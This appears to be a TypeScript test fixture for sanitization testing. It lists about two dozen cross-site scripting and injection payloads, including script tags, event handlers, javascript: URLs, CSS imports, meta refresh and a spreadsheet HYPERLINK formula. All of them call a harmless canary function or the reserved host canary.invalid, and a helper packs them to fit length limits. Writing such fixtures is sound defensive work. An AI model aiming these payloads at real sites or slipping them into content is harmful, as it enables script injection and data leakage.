/** Host of what a payload would load or open; nothing may ask it. */
export const canaryHost = 'canary.invalid';

/** Texts that mean to run, to load or to break out, each within the hundred letters of the shortest name. */
export const payloads = [
  `<script>canary(0)</script>`,
  `<img src=x onerror=canary(1)>`,
  `"><svg onload=canary(2)>`,
  `' onfocus='canary(3)' autofocus='`,
  `" onmouseover="canary(4)" style="position:fixed;inset:0" x="`,
  `javascript:canary(5)//`,
  `<a href="javascript:canary(6)">a</a>`,
  `</script><script>canary(7)</script>`,
  `</title></textarea></style><script>canary(8)</script>`,
  `<iframe srcdoc="<script>parent.canary(9)</script>"></iframe>`,
  `[a](javascript:canary(10)) **b** # c ![d](//${canaryHost}/d)`,
  `https://${canaryHost}/"onclick="canary(11)`,
  `<style>@import"//${canaryHost}/a.css";*{background:url(//${canaryHost}/b)}</style>`,
  `url(//${canaryHost}/c);}*{x:expression(canary(13))}`,
  `<link rel=stylesheet href=//${canaryHost}/e><base href=//${canaryHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${canaryHost}/f">`,
  `$1 \${canary(16)} <%= canary(16) %> #x onclick=canary(16)`,
  `<math><mtext><img src=x onerror=canary(17)></math><details open ontoggle=canary(17)>`,
  `\u202E<b onclick=canary(18)>\u2066x\u200By\u2028z`,
  `<!--><img src=//${canaryHost}/g>--><object data=//${canaryHost}/h>`,
  `&lt;img src=x onerror=canary(20)&gt;\\u003cscript\\u003ecanary(20)\\u003c/script\\u003e`,
  `=HYPERLINK("http://${canaryHost}/i")`,
] as const;

/** All payloads in as few texts of this length as they fit. */
export const packed = (most: number, accept = (_text: string): boolean => true): string[] => {
  const texts: string[] = [];
  for (const payload of payloads.filter(accept)) {
    const longer = `${texts.at(-1) ?? ''} ${payload}`.trim();
    if (longer.length <= most && texts.length > 0) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
};
